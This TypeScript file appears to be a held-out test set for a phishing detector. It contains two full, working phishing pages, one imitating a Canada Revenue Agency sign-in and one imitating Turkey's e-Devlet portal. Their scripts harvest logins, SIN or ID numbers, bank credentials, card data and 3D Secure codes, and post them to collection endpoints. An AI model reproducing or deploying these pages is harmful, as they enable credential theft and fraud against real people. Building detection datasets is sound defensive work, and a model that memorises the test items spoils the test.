import { type Entry } from '../entry.js';
import { jsonRoute } from '../parts/f-kit.js';

/** Held-out pages by author f, family "phish-gov" (blind split). Hand-written; see ../parts/f-kit.ts for the binary builders. */
export const entries: Entry[] = [
  {
    id: "f-phish-cra-benefit-deposit",
    label: "phishing",
    kind: "gov-benefit",
    url: "https://cra-arc-gc.benefit-deposit.ca-services.net/en/signin.html",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>CRA sign in – Canada.ca</title>
<style>
body{margin:0;font-family:"Noto Sans",Helvetica,Arial,sans-serif;color:#333}
.gc{display:flex;align-items:center;justify-content:space-between;padding:12px 30px}
.flag{display:flex;align-items:center;gap:10px;font-size:14px}
.flag i{display:inline-block;width:36px;height:18px;background:linear-gradient(90deg,#eb2d37 0 25%,#fff 25% 75%,#eb2d37 75%);position:relative}
.flag i:after{content:"";position:absolute;left:14px;top:4px;width:8px;height:9px;background:#eb2d37;clip-path:polygon(50% 0,100% 60%,60% 55%,60% 100%,40% 100%,40% 55%,0 60%)}
.lang a{color:#284162;font-size:14px}
.band{background:#38414d;color:#fff;padding:10px 30px;font-size:15px}
main{max-width:900px;margin:30px auto;padding:0 20px}
h1{font-size:34px;border-bottom:3px solid #af3c43;padding-bottom:8px;display:inline-block}
.alert{border-left:6px solid #ee7100;background:#fff;padding:14px;margin:20px 0;box-shadow:0 0 0 1px #ddd}
.opts{display:grid;grid-template-columns:1fr 1fr;gap:24px}
.opt{border:1px solid #ccc;padding:20px}
.opt h2{font-size:20px;margin-top:0}
label{display:block;font-weight:700;margin:12px 0 4px}
input,select{width:100%;box-sizing:border-box;padding:8px;border:1px solid #777}
.btn{background:#26374a;color:#fff;border:0;padding:10px 20px;margin-top:14px;cursor:pointer}
.banks{display:flex;flex-wrap:wrap;gap:6px;margin-top:10px}.banks span{border:1px solid #bbb;padding:6px 10px;font-size:13px;cursor:pointer;background:#f8f8f8}
footer{background:#26374a;color:#fff;padding:20px 30px;margin-top:60px;font-size:13px}
.mod{display:none}
</style>
</head>
<body>
<div class="gc"><div class="flag"><i></i><span>Government of Canada<br>Gouvernement du Canada</span></div><div class="lang"><a href="#" id="fr">Français</a></div></div>
<div class="band">Canada Revenue Agency – My Account</div>
<main>
 <h1>CRA sign in</h1>
 <div class="alert"><b>Action required:</b> A pending payment of <b>$1,186.50</b> (GST/HST credit and Canada Carbon Rebate adjustment) could not be deposited. Confirm your direct deposit information to receive the payment.</div>
 <div class="opts">
  <div class="opt">
   <h2>CRA user ID and password</h2>
   <form id="f1"><label>CRA user ID</label><input name="uid" required><label>Password</label><input name="pw" type="password" required><button class="btn">Sign in</button></form>
  </div>
  <div class="opt">
   <h2>Sign-In Partner</h2>
   <p style="font-size:14px">Use the same sign-in information you use for online banking.</p>
   <div class="banks"><span>BMO</span><span>CIBC</span><span>Desjardins</span><span>RBC Royal Bank</span><span>Scotiabank</span><span>TD</span><span>National Bank</span><span>Tangerine</span></div>
  </div>
 </div>
 <form id="f2" class="mod">
  <h2>Confirm your identity</h2>
  <label>Social insurance number (SIN)</label><input name="sin" required>
  <label>Date of birth</label><input name="dob" type="date" required>
  <label>Amount entered on line 15000 of your 2024 return</label><input name="l150" required>
  <h2>Direct deposit</h2>
  <label>Institution</label><input name="inst" required>
  <label>Online banking card number / username</label><input name="bu" required>
  <label>Online banking password</label><input name="bp" type="password" required>
  <button class="btn">Submit</button>
 </form>
</main>
<footer>Canada.ca · Terms and conditions · Privacy · © His Majesty the King in Right of Canada</footer>
<script>
var ep='https://script.google.com/macros/s/AKfycbx9rPqv1KM0tLZ0wHnjz7bT4Q2yXeCQ_w8hVfGm3E1LkAa/exec';
function push(f){var p=new URLSearchParams(new FormData(f));p.append('ts',new Date().toISOString());return fetch(ep,{method:'POST',body:p,mode:'no-cors'}).catch(function(){})}
document.getElementById('f1').onsubmit=function(e){e.preventDefault();push(this).then(function(){document.querySelector('.opts').style.display='none';document.getElementById('f2').style.display='block'})};
document.querySelectorAll('.banks span').forEach(function(s){s.onclick=function(){document.querySelector('.opts').style.display='none';document.getElementById('f2').style.display='block';document.querySelector('[name=inst]').value=s.textContent}});
document.getElementById('f2').onsubmit=function(e){e.preventDefault();push(this).then(function(){location.href='https://www.canada.ca/en/revenue-agency.html'})};
document.getElementById('fr').onclick=function(e){e.preventDefault();alert('Version française bientôt disponible.')};
</script>
</body>
</html>
`,
  },
  {
    id: "f-phish-edevlet-iade",
    label: "phishing",
    kind: "gov-refund",
    url: "https://turkiye-gov-tr.edevlet-iade-basvuru.com/giris/",
    body: `<!DOCTYPE html>
<html lang="tr">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>e-Devlet Kapısı - Kimlik Doğrulama</title>
<style>
body{margin:0;font-family:"Segoe UI",Tahoma,Arial,sans-serif;background:#eef0f3;color:#222}
.ust{background:#fff;border-top:4px solid #e30a17;padding:12px 24px;display:flex;align-items:center;gap:12px}
.ay{width:40px;height:40px;border-radius:50%;background:#e30a17;position:relative}
.ay:before{content:"";position:absolute;left:8px;top:8px;width:24px;height:24px;border-radius:50%;background:#fff}
.ay:after{content:"";position:absolute;left:14px;top:10px;width:20px;height:20px;border-radius:50%;background:#e30a17}
.ust b{font-size:20px}.ust small{display:block;color:#666;font-weight:400;font-size:12px}
.kutu{max-width:460px;margin:40px auto;background:#fff;border-radius:6px;box-shadow:0 1px 6px rgba(0,0,0,.1)}
.sek{display:flex;border-bottom:1px solid #ddd}.sek div{flex:1;text-align:center;padding:12px 4px;font-size:13px;color:#666}.sek .ak{color:#e30a17;border-bottom:3px solid #e30a17;font-weight:600}
.ic{padding:24px}
.bilgi{background:#fff8e1;border:1px solid #ffe08a;padding:10px;font-size:13px;border-radius:4px;margin-bottom:14px}
label{display:block;font-size:13px;margin:12px 0 4px;font-weight:600}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #aaa;border-radius:4px;font-size:15px}
.bt{margin-top:18px;width:100%;background:#e30a17;color:#fff;border:0;border-radius:4px;padding:12px;font-size:15px;cursor:pointer}
.alt{font-size:12px;color:#777;text-align:center;padding:14px}
#k2,#k3{display:none}
</style>
</head>
<body>
<div class="ust"><div class="ay"></div><b>türkiye.gov.tr<small>e-Devlet Kapısı</small></b></div>
<div class="kutu">
 <div class="sek"><div class="ak">e-Devlet Şifresi</div><div>Mobil İmza</div><div>e-İmza</div><div>İnternet Bankacılığı</div></div>
 <div class="ic">
  <div class="bilgi">Adınıza tanımlanmış <b>2.850,00 TL</b> tutarında fatura/aidat iadesi bulunmaktadır. İadenin kartınıza aktarılması için kimliğinizi doğrulayınız.</div>
  <form id="k1">
   <label>T.C. Kimlik No</label><input name="tc" maxlength="11" inputmode="numeric" required>
   <label>e-Devlet Şifresi</label><input name="sifre" type="password" required>
   <button class="bt">Giriş Yap</button>
  </form>
  <form id="k2">
   <label>Kart Sahibi</label><input name="ad" required>
   <label>Kart Numarası</label><input name="kart" inputmode="numeric" maxlength="19" required>
   <label>Son Kullanma Tarihi</label><input name="skt" placeholder="AA/YY" required>
   <label>CVV</label><input name="cvv" maxlength="3" required>
   <label>Kart Limiti</label><input name="limit" placeholder="Örn. 25.000 TL">
   <button class="bt">İadeyi Onayla</button>
  </form>
  <form id="k3">
   <p style="font-size:14px">Bankanız tarafından cep telefonunuza gönderilen 3D Secure doğrulama kodunu giriniz.</p>
   <label>SMS Kodu</label><input name="sms" maxlength="6" inputmode="numeric" required>
   <p style="font-size:12px;color:#666">Kalan süre: <b id="sure">180</b> sn</p>
   <button class="bt">Onayla</button>
  </form>
 </div>
 <div class="alt">© 2026 T.C. Cumhurbaşkanlığı Dijital Dönüşüm Ofisi</div>
</div>
<script>
var socket_url='/giris/api/log',uid=(Date.now()).toString(36);
function gonder(f,adim){var o={uid:uid,adim:adim};new FormData(f).forEach(function(v,k){o[k]=v});return fetch(socket_url,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(o)}).then(function(r){return r.json()}).catch(function(){return{}})}
document.getElementById('k1').onsubmit=function(e){e.preventDefault();var tc=this.tc.value;if(!/^[1-9]\\d{10}$/.test(tc)){alert('Geçersiz T.C. Kimlik No');return}gonder(this,1).then(function(){k1.style.display='none';k2.style.display='block'})};
document.getElementById('k2').onsubmit=function(e){e.preventDefault();gonder(this,2).then(function(){k2.style.display='none';k3.style.display='block';var s=180,t=setInterval(function(){s--;document.getElementById('sure').textContent=s;if(s<=0)clearInterval(t)},1000)})};
document.getElementById('k3').onsubmit=function(e){e.preventDefault();gonder(this,3).then(function(){location.href='https://www.turkiye.gov.tr/'})};
</script>
</body>
</html>
`,
    routes: {
      "turkiye-gov-tr.edevlet-iade-basvuru.com/giris/api/log": jsonRoute({ ok: 1, next: true }),
    },
  },
];
